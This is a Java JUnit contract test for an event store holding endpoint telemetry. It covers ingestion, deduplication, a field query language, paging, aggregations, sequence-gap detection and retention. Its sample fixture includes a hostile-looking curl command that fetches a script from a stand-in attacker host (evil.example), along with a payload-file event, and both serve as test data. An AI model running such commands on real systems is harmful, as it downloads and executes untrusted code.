package dev.kiroku.store;

import dev.kiroku.event.Event;
import dev.kiroku.store.query.QuerySyntaxException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.LongStream;

import static dev.kiroku.store.TestEvents.connect;
import static dev.kiroku.store.TestEvents.exec;
import static dev.kiroku.store.TestEvents.file;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * What every {@link EventStore} must do. An implementation's test subclasses this and says how to
 * open a store on a directory with a clock; opening the same directory again must see what was
 * committed before.
 */
public abstract class EventStoreContract {
    protected static final Instant T0 = Instant.parse("2025-03-10T12:00:00Z");

    @TempDir
    protected Path dir;
    protected MutableClock clock;
    protected EventStore store;

    /** Opens (or re-opens) the store kept under {@code dir}. */
    protected abstract EventStore open(Path dir, InstantSource clock);

    @BeforeEach
    void openStore() {
        clock = new MutableClock(T0.plus(Duration.ofHours(1)));
        store = open(dir, clock);
    }

    @AfterEach
    void closeStore() {
        if (store != null) store.close();
    }

    protected EventQuery q(String text) {
        return EventQuery.parse(text, clock);
    }

    private List<Event> sample() {
        return List.of(
                exec("a1", 1, T0, "web-1", "/usr/bin/curl", "curl", "--user", "admin", "http://evil.example/x.sh"),
                exec("a1", 2, T0.plusSeconds(1), "web-1", "/usr/bin/bash", "bash", "-c", "id"),
                connect("a1", 3, T0.plusSeconds(2), "web-1", "10.1.2.3", 443),
                connect("a1", 4, T0.plusSeconds(3), "web-1", "8.8.8.8", 53),
                file("a2", 1, T0.plusSeconds(4), "db-1", "/tmp/payload.sh"),
                exec("a2", 2, T0.plusSeconds(5), "db-1", "/usr/bin/cupsd", "cupsd", "-l"),
                connect("a2", 3, T0.plusSeconds(6), "db-1", "10.200.0.9", 8080));
    }

    private void storeSample() {
        AppendResult r = store.append(sample());
        assertThat(r).isEqualTo(new AppendResult(7, 0, List.of()));
        store.commit();
    }

    private List<String> ids(Page page) {
        return page.hits().stream().map(h -> h.event().agentId() + "/" + h.event().sequence()).toList();
    }

    @Test
    void appended_events_are_found_newest_first_and_come_back_equal() {
        storeSample();
        Page page = store.search(EventQuery.all());
        assertThat(ids(page)).containsExactly("a2/3", "a2/2", "a2/1", "a1/4", "a1/3", "a1/2", "a1/1");
        assertThat(page.hits().getLast().event()).isEqualTo(sample().getFirst());
        assertThat(page.hits().getFirst().ecs()).containsEntry("destination.port", 8080);
        assertThat(page.hasMore()).isFalse();
    }

    @Test
    void the_same_event_stored_twice_is_stored_once() {
        storeSample();
        AppendResult again = store.append(sample());
        assertThat(again.stored()).isZero();
        assertThat(again.duplicates()).isEqualTo(7);
        Event first = sample().getFirst();
        AppendResult inBatch = store.append(List.of(first.withSequence(9), first.withSequence(9)));
        assertThat(inBatch.stored()).isEqualTo(1);
        assertThat(inBatch.duplicates()).isEqualTo(1);
        store.commit();
        assertThat(store.count(EventQuery.all())).isEqualTo(8);
    }

    @Test
    void idempotency_survives_reopening() {
        storeSample();
        store.close();
        store = open(dir, clock);
        assertThat(store.count(EventQuery.all())).isEqualTo(7);
        assertThat(store.append(sample()).duplicates()).isEqualTo(7);
    }

    @Test
    void a_bad_event_is_rejected_without_dropping_its_batch() {
        Event good = sample().getFirst();
        AppendResult r = store.append(List.of(good.withSequence(0), good));
        assertThat(r.stored()).isEqualTo(1);
        assertThat(r.rejected()).singleElement().satisfies(x -> assertThat(x.reason()).contains("sequence"));
    }

    @Test
    void queries_select_by_field_phrase_wildcard_range_cidr_and_boolean_logic() {
        storeSample();
        record Case(String query, List<String> expected) {
        }
        List<Case> cases = List.of(
                new Case("host.name:db-1", List.of("a2/3", "a2/2", "a2/1")),
                new Case("process.command_line:\"--user admin\"", List.of("a1/1")),
                new Case("process.command_line:admin", List.of("a1/1")),
                new Case("process.name:cu*", List.of("a2/3", "a2/2", "a1/4", "a1/3", "a1/1")),
                new Case("process.name:cu* AND NOT event.category:network", List.of("a2/2", "a1/1")),
                new Case("destination.port:[400 TO 1000]", List.of("a1/3")),
                new Case("destination.port:>1024", List.of("a2/3")),
                new Case("destination.port:<=53", List.of("a1/4")),
                new Case("destination.ip:10.0.0.0/8", List.of("a2/3", "a1/3")),
                new Case("destination.ip:8.8.8.8", List.of("a1/4")),
                new Case("destination.ip:[10.0.0.0 TO 10.100.0.0]", List.of("a1/3")),
                new Case("file.path:*.sh", List.of("a2/1")),
                new Case("file.path:payload", List.of("a2/1")),
                new Case("file.path:=/tmp/payload.sh", List.of("a2/1")),
                new Case("process.executable:/usr/bin/bash", List.of("a1/2")),
                new Case("payload OR cupsd", List.of("a2/2", "a2/1")),
                new Case("host.name:(db-1 OR web-1) AND event.action:exec", List.of("a2/2", "a1/2", "a1/1")),
                new Case("(host.name:web-1 OR host.name:db-1) destination.port:8080", List.of("a2/3")),
                new Case("@timestamp:[2025-03-10T12:00:01Z TO 2025-03-10T12:00:02Z]", List.of("a1/3", "a1/2")),
                new Case("@timestamp:{2025-03-10T12:00:04Z TO *]", List.of("a2/3", "a2/2")),
                new Case("@timestamp:>=now-1h AND agent.id:a1", List.of("a1/4", "a1/3", "a1/2", "a1/1")),
                new Case("NOT agent.id:a1", List.of("a2/3", "a2/2", "a2/1")),
                new Case("process.args:evil", List.of("a1/1")),
                new Case("user.name:nobody", List.of()));
        for (Case c : cases) {
            assertThat(ids(store.search(q(c.query())))).as(c.query()).isEqualTo(c.expected());
            assertThat(store.count(q(c.query()))).as("count " + c.query()).isEqualTo(c.expected().size());
        }
    }

    @Test
    void a_time_window_limits_search_and_count() {
        storeSample();
        EventQuery window = EventQuery.all().between(T0.plusSeconds(1), T0.plusSeconds(3));
        assertThat(ids(store.search(window))).containsExactly("a1/3", "a1/2");
        assertThat(store.count(window)).isEqualTo(2);
    }

    @Test
    void pages_follow_each_other_without_overlap_or_loss() {
        List<Event> events = new ArrayList<>();
        for (int i = 1; i <= 25; i++) {
            // two agents share timestamps: the cursor must still be exact
            events.add(exec("a" + (i % 2), i, T0.plusSeconds(i / 3), "h", "/usr/bin/true", "true"));
        }
        store.append(events);
        store.commit();
        EventQuery query = EventQuery.all().limit(10);
        List<SortPosition> seen = new ArrayList<>();
        Set<String> ids = new HashSet<>();
        int pages = 0;
        while (query != null) {
            Page page = store.search(query);
            pages++;
            page.hits().forEach(h -> {
                seen.add(h.position());
                ids.add(h.event().agentId() + "/" + h.event().sequence());
            });
            query = page.hasMore() ? query.after(page.next()) : null;
        }
        assertThat(pages).isEqualTo(3);
        assertThat(ids).hasSize(25);
        for (int i = 1; i < seen.size(); i++) {
            SortPosition a = seen.get(i - 1);
            SortPosition b = seen.get(i);
            assertThat(!a.timestamp().isBefore(b.timestamp())).as("newest first at " + i).isTrue();
        }
        assertThat(SortPosition.fromToken(seen.get(3).token())).isEqualTo(seen.get(3));
    }

    @Test
    void terms_count_the_most_frequent_values() {
        storeSample();
        Terms hosts = store.terms(EventQuery.all(), "host.name", 1);
        assertThat(hosts.top()).containsExactly(new TermCount("web-1", 4));
        assertThat(hosts.otherCount()).isEqualTo(3);
        Terms executables = store.terms(q("event.category:process"), "process.executable", 10);
        assertThat(executables.top()).containsExactly(new TermCount("/usr/bin/bash", 1), new TermCount("/usr/bin/cupsd", 1),
                new TermCount("/usr/bin/curl", 1));
        assertThat(store.terms(q("event.category:network"), "destination.port", 10).top())
                .containsExactly(new TermCount("443", 1), new TermCount("53", 1), new TermCount("8080", 1));
        assertThatThrownBy(() -> store.terms(EventQuery.all(), "process.command_line", 5))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("host.name");
    }

    @Test
    void histogram_counts_per_interval() {
        storeSample();
        List<HistogramBucket> buckets = store.histogram(EventQuery.all(), Duration.ofSeconds(4));
        assertThat(buckets).containsExactly(new HistogramBucket(T0, 4), new HistogramBucket(T0.plusSeconds(4), 3));
    }

    @Test
    void sequence_gaps_are_told_apart_from_quiet_periods() {
        List<Event> events = new ArrayList<>();
        LongStream.rangeClosed(1, 10).forEach(s -> events.add(exec("g", s, T0.plusSeconds(s), "h", "/bin/true", "true")));
        // a quiet hour, then contiguous numbers again: no gap
        LongStream.rangeClosed(11, 12).forEach(s -> events.add(exec("g", s, T0.plus(Duration.ofHours(1)).plusSeconds(s), "h", "/bin/true", "true")));
        // 13..14 lost
        LongStream.rangeClosed(15, 20).forEach(s -> events.add(exec("g", s, T0.plus(Duration.ofHours(2)).plusSeconds(s), "h", "/bin/true", "true")));
        store.append(events);
        store.commit();
        SequenceGaps gaps = store.sequenceGaps("g", 1, 100);
        assertThat(gaps.highestStored()).isEqualTo(20);
        assertThat(gaps.lowestStored()).isEqualTo(1);
        assertThat(gaps.storedInRange()).isEqualTo(18);
        assertThat(gaps.missing()).containsExactly(new SequenceRange(13, 14));
        assertThat(store.sequenceGaps("g", 5, 12).missing()).isEmpty();
        assertThat(store.sequenceGaps("nobody", 1, 10).highestStored()).isZero();
    }

    @Test
    void deleting_before_a_cutoff_removes_whole_days() {
        Instant day1 = Instant.parse("2025-03-08T10:00:00Z");
        store.append(List.of(
                exec("r", 1, day1, "h", "/bin/true", "true"),
                exec("r", 2, day1.plus(Duration.ofDays(1)), "h", "/bin/true", "true"),
                exec("r", 3, day1.plus(Duration.ofDays(2)), "h", "/bin/true", "true")));
        store.commit();
        List<LocalDate> deleted = store.deleteBefore(Instant.parse("2025-03-09T12:00:00Z"));
        assertThat(deleted).containsExactly(LocalDate.parse("2025-03-08"));
        assertThat(store.count(EventQuery.all())).isEqualTo(2);
        assertThat(store.sequenceGaps("r", 1, 3).lowestStored()).isEqualTo(2);
        assertThat(store.status().oldestDay()).isEqualTo(LocalDate.parse("2025-03-09"));
    }

    @Test
    void query_errors_name_the_position_and_what_was_expected() {
        assertThatThrownBy(() -> q("host.name:web-1 AND (process.name:curl"))
                .isInstanceOfSatisfying(QuerySyntaxException.class, e -> {
                    assertThat(e.position()).isEqualTo(38);
                    assertThat(e.problem()).contains("expected ')'");
                });
        assertThatThrownBy(() -> q("destination.port:http"))
                .isInstanceOfSatisfying(QuerySyntaxException.class, e -> assertThat(e.position()).isEqualTo(17));
        storeSample();
        assertThatThrownBy(() -> store.search(q("process.command_line:\"--\"")))
                .isInstanceOfSatisfying(QuerySyntaxException.class, e -> assertThat(e.position()).isEqualTo(21));
    }

    @Test
    void status_reports_a_healthy_store() {
        storeSample();
        StoreStatus status = store.status();
        assertThat(status.state()).isEqualTo(StoreStatus.State.OK);
        assertThat(status.partitions()).isEqualTo(1);
        assertThat(status.newestDay()).isEqualTo(LocalDate.parse("2025-03-10"));
    }
}
